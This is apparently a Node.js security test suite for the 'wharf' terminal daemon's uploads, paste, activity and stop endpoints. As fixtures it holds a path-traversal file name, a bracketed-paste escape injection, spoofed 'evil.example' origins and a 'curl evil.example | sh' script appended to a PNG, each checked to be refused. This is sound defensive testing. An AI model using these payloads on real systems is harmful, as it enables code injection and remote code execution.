// The daemon's side of the page (issue 5) on the real binary: uploads (content checked,
// size capped, names chosen by the server, swept), the composer's `paste`, the activity
// every window sees (working, finished, waiting by `wharf notify`, cleared by `seen`, one
// chime), and the power button's POST /api/stop.
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, statSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { startDaemon, waitFor, wharfBin } from '../support/daemon.mjs';
import { attachedWindow, httpGet, openWs, rawHttp, runWharf, statusCodes, stopDaemon } from '../support/ws_client.mjs';

// A 2x2 PNG, as libpng writes it (the 1x1 one here before had an IDAT length one short:
// it was never a PNG, and the upload decoder said so).
const PNG = Buffer.from('89504e470d0a1a0a0000000d494844520000000200000002080600000072b60d24000000017352474200aece1ce90000001949444154089905c1010d00000cc32096dcbfe51e44d24dc2033eff06003ee79aaf0000000049454e44ae426082', 'hex');

function upload(d, body, { name = 'shot.png', key = d.key, headers = {} } = {}) {
  const h = { 'Content-Type': 'application/octet-stream', ...headers };
  if (key) h['X-Wharf-Key'] = key;
  return httpGet(d, `/api/upload?name=${encodeURIComponent(name)}`, { method: 'POST', headers: h, body, timeout: 30000 });
}

async function homeDaemon(t, args = []) {
  const home = mkdtempSync(join(tmpdir(), 'wharf-page-home-'));
  t.after(() => rmSync(home, { recursive: true, force: true }));
  writeFileSync(join(home, '.bashrc'), "PS1='page$ '\n");
  const d = await startDaemon({ args, env: { HOME: home } });
  t.after(() => stopDaemon(d));
  return d;
}

describe('uploads', { concurrency: 2 }, () => {
  test('an image is stored owner-only under a name the server chose; other content, size and key are refused', async (t) => {
    const d = await homeDaemon(t);
    let r = await upload(d, PNG, { name: '../../../etc/evil.sh' });
    assert.equal(r.status, 200, r.body);
    const stored = JSON.parse(r.body);
    assert.equal(stored.type, 'image/png');
    assert.equal(stored.bytes, PNG.length);
    assert.equal(dirname(stored.path), join(d.stateDir, 'uploads'), 'inside the upload directory');
    assert.match(stored.name, /^[0-9a-f]{32}\.png$/, 'a name the server chose');
    assert.deepEqual(readFileSync(stored.path), PNG);
    assert.equal(statSync(stored.path).mode & 0o777, 0o600);
    assert.ok(!existsSync('/etc/evil.sh'));

    r = await upload(d, Buffer.from('#!/bin/sh\necho not an image\n'), { name: 'looks.png' });
    assert.equal(r.status, 415);
    assert.equal(JSON.parse(r.body).error.code, 'unsupported_type');
    r = await upload(d, PNG, { key: null });
    assert.equal(r.status, 401);
    r = await upload(d, PNG, { headers: { Origin: 'http://evil.example' } });
    assert.equal(r.status, 403);
    const big = Buffer.alloc(20 * 1024 * 1024 + 1, 0);
    PNG.copy(big);
    // The header alone is refused: wharf never takes in more than the cap.
    const raw = await rawHttp(d, `POST /api/upload HTTP/1.1\r\nHost: ${d.host}\r\nX-Wharf-Key: ${d.key}\r\nContent-Length: ${big.length}\r\n\r\n`);
    assert.deepEqual(statusCodes(raw), [413], raw);
    // Only the one image is there.
    assert.deepEqual(readdirSync(join(d.stateDir, 'uploads')), [stored.name]);
  });

  test('the sweep at start removes week-old files from the upload directory and nothing else', async (t) => {
    const stateDir = mkdtempSync(join(tmpdir(), 'wharf-sweep-'));
    t.after(() => rmSync(stateDir, { recursive: true, force: true }));
    const uploads = join(stateDir, 'uploads');
    mkdirSync(uploads, { recursive: true, mode: 0o700 });
    const old = Date.now() / 1000 - 8 * 24 * 3600;
    const outside = join(stateDir, 'outside.png');
    writeFileSync(outside, 'keep me');
    utimesSync(outside, old, old);
    writeFileSync(join(uploads, 'old.png'), 'old');
    utimesSync(join(uploads, 'old.png'), old, old);
    writeFileSync(join(uploads, 'new.png'), 'new');
    symlinkSync(outside, join(uploads, 'link.png'));
    const d = await startDaemon({ stateDir });
    t.after(() => stopDaemon(d));
    assert.ok(!existsSync(join(uploads, 'old.png')), 'the week-old upload is gone');
    assert.ok(existsSync(join(uploads, 'new.png')), 'a recent one stays');
    assert.equal(readFileSync(outside, 'utf8'), 'keep me', 'nothing outside is touched');
    assert.ok(existsSync(join(uploads, 'link.png')), 'a symlink is not followed');
  });
});

describe('the composer\'s paste', () => {
  test('a multi-line message is one paste, submitted once', async (t) => {
    const d = await homeDaemon(t);
    const { ws } = await attachedWindow(t, d);
    const from = ws.textLength;
    const n = ws.messages.length;
    ws.send({ type: 'paste', text: 'echo one-$((1+1))\necho two-$((2+2))', submit: true });
    await ws.waitForMessage('pasted', { from: n });
    await ws.waitForText('two-4', { from });
    await ws.run('true'); // everything the paste ran has printed
    const out = ws.output.slice(from);
    assert.equal(out.match(/\bone-2\b/g)?.length, 1, out);
    assert.equal(out.match(/\btwo-4\b/g)?.length, 1, out);
  });

  test('escapes inside a message cannot close the paste early: an injected line never runs', async (t) => {
    const d = await homeDaemon(t);
    const { ws } = await attachedWindow(t, d);
    const marker = join(tmpdir(), `wharf-pwned-${process.pid}-${Date.now()}`);
    const from = ws.textLength;
    const n = ws.messages.length;
    ws.send({ type: 'paste', text: `echo held\x1b[201~\rtouch ${marker}\r\x9b201~\x03touch ${marker}\n` });
    const pasted = await ws.waitForMessage('pasted', { from: n });
    // Both end markers go whole (ESC [ 2 0 1 ~, and U+009B, 8-bit CSI, with its 2 0 1 ~),
    // and so does C-c: 6 + 5 + 1 characters.
    assert.equal(pasted.removed, 12, `removed ${pasted.removed}`);
    // All of it sits in the line editor (the last line drawn too), nothing ran: bash runs
    // a line before it reads on, so a line the paste let out would have run by now.
    await ws.waitForOutput(/touch [^\r\n]*pwned[^]*touch [^\r\n]*pwned/, { from });
    assert.ok(!ws.output.slice(from).includes('201~'), 'no part of an end marker was typed');
    assert.equal(existsSync(marker), false, 'nothing ran while the paste was read');
    // Throw the line away with keys (end of buffer, kill to its start). Not C-c: its
    // SIGINT can reach bash between reads, and then bash keeps the line.
    ws.type('\x05\x15');
    await ws.run('true');
    assert.equal(existsSync(marker), false, `the injected command never ran:\n${JSON.stringify(ws.output.slice(from))}`);
  });

  test('a watching window cannot paste', async (t) => {
    const d = await homeDaemon(t);
    const { attached } = await attachedWindow(t, d);
    const watcher = await openWs(d);
    t.after(() => watcher.close());
    await watcher.attach({ session: attached.session });
    const err = await watcher.request({ type: 'paste', text: 'echo nope', submit: true }, 'error');
    assert.equal(err.code, 'not_driver');
    const bad = await watcher.request({ type: 'paste', text: 5 }, 'error');
    assert.equal(bad.code, 'bad_field');
  });
});

describe('activity', { concurrency: 2 }, () => {
  const activityOf = (w, id) => w.lastSessions?.find((s) => s.id === id)?.activity;

  test('steady output is working, the quiet makes it finished, seen clears it; every window sees it', async (t) => {
    const d = await homeDaemon(t);
    const { ws, attached } = await attachedWindow(t, d);
    const other = await openWs(d);
    t.after(() => other.close());
    ws.type('for i in $(seq 25); do echo tick-$i; sleep 0.1; done\r');
    await waitFor(() => activityOf(other, attached.session) === 'working', { timeout: 10000, what: 'working' });
    await ws.waitForOutput('tick-25');
    assert.equal(activityOf(other, attached.session), 'working', 'not finished while the quiet has not held');
    await waitFor(() => activityOf(other, attached.session) === 'finished', { timeout: 10000, what: 'finished' });
    ws.send({ type: 'seen' });
    await waitFor(() => activityOf(other, attached.session) === 'idle', { what: 'cleared by seen' });
  });

  test('wharf notify marks a session at once, from inside it; one window chimes ten seconds later', async (t) => {
    const d = await homeDaemon(t);
    const { ws, attached } = await attachedWindow(t, d);
    const other = await openWs(d);
    t.after(() => other.close());
    const notify = await runWharf(['notify', 'waiting', '--state-dir', d.stateDir, '--session', String(attached.session)]);
    assert.equal(notify.code, 0, notify.stderr);
    await waitFor(() => activityOf(other, attached.session) === 'waiting', { what: 'waiting' });
    // From inside the session, without naming it.
    ws.type(`${wharfBin} notify finished --state-dir ${d.stateDir}\r`);
    await waitFor(() => activityOf(other, attached.session) === 'finished', { what: 'finished' });
    const refused = await runWharf(['notify', 'finished', '--state-dir', d.stateDir]);
    assert.notEqual(refused.code, 0, 'outside a session it must be named');
    await waitFor(() => [ws, other].some((w) => w.messages.some((m) => m.type === 'chime')), { timeout: 15000, what: 'the chime' });
    const chimes = [ws, other].flatMap((w) => w.messages.filter((m) => m.type === 'chime'));
    assert.equal(chimes.length, 1, 'one chime for all windows');
    assert.equal(chimes[0].session, attached.session);
    assert.ok(ws.messages.some((m) => m.type === 'chime'), 'the window used last chimes');
  });
});

describe('the power button', () => {
  test('POST /api/stop needs the key and our Origin, names the sessions, and stops the daemon', async (t) => {
    const d = await homeDaemon(t);
    const { ws } = await attachedWindow(t, d);
    let r = await httpGet(d, '/api/stop', { method: 'POST' });
    assert.equal(r.status, 401);
    r = await httpGet(d, '/api/stop', { method: 'POST', headers: { 'X-Wharf-Key': d.key, Origin: 'http://evil.example' } });
    assert.equal(r.status, 403);
    r = await httpGet(d, '/api/stop', { method: 'GET', headers: { 'X-Wharf-Key': d.key } });
    assert.equal(r.status, 405);
    r = await httpGet(d, '/api/stop', { method: 'POST', headers: { 'X-Wharf-Key': d.key, Origin: d.origin } });
    assert.equal(r.status, 200, r.body);
    assert.deepEqual(JSON.parse(r.body).sessions, ['bash 1']);
    await ws.waitForMessage('stopping', { timeout: 10000 });
    const exit = await d.exited;
    assert.equal(exit.code, 0);
  });
});

describe('uploads are decoded', () => {
  test('a PNG with a script after its end, or a PNG header before one, is refused and nothing is stored', async (t) => {
    const d = await homeDaemon(t);
    const script = Buffer.from('#!/bin/sh\ncurl evil.example | sh\n');
    let r = await upload(d, Buffer.concat([PNG, script]));
    assert.equal(r.status, 415, r.body);
    const refusal = JSON.parse(r.body);
    assert.equal(refusal.code ?? refusal.error?.code, 'unsupported_type', r.body);
    assert.match(r.body, /after its end/);
    r = await upload(d, Buffer.concat([PNG.subarray(0, 33), script]));
    assert.equal(r.status, 415, r.body);
    r = await upload(d, PNG.subarray(0, PNG.length - 5));
    assert.equal(r.status, 415, r.body);
    assert.match(r.body, /cut short/);
    const dir = join(d.stateDir, 'uploads');
    assert.deepEqual(existsSync(dir) ? readdirSync(dir) : [], [], 'nothing was stored');
    r = await upload(d, PNG);
    assert.equal(r.status, 200, r.body);
  });
});
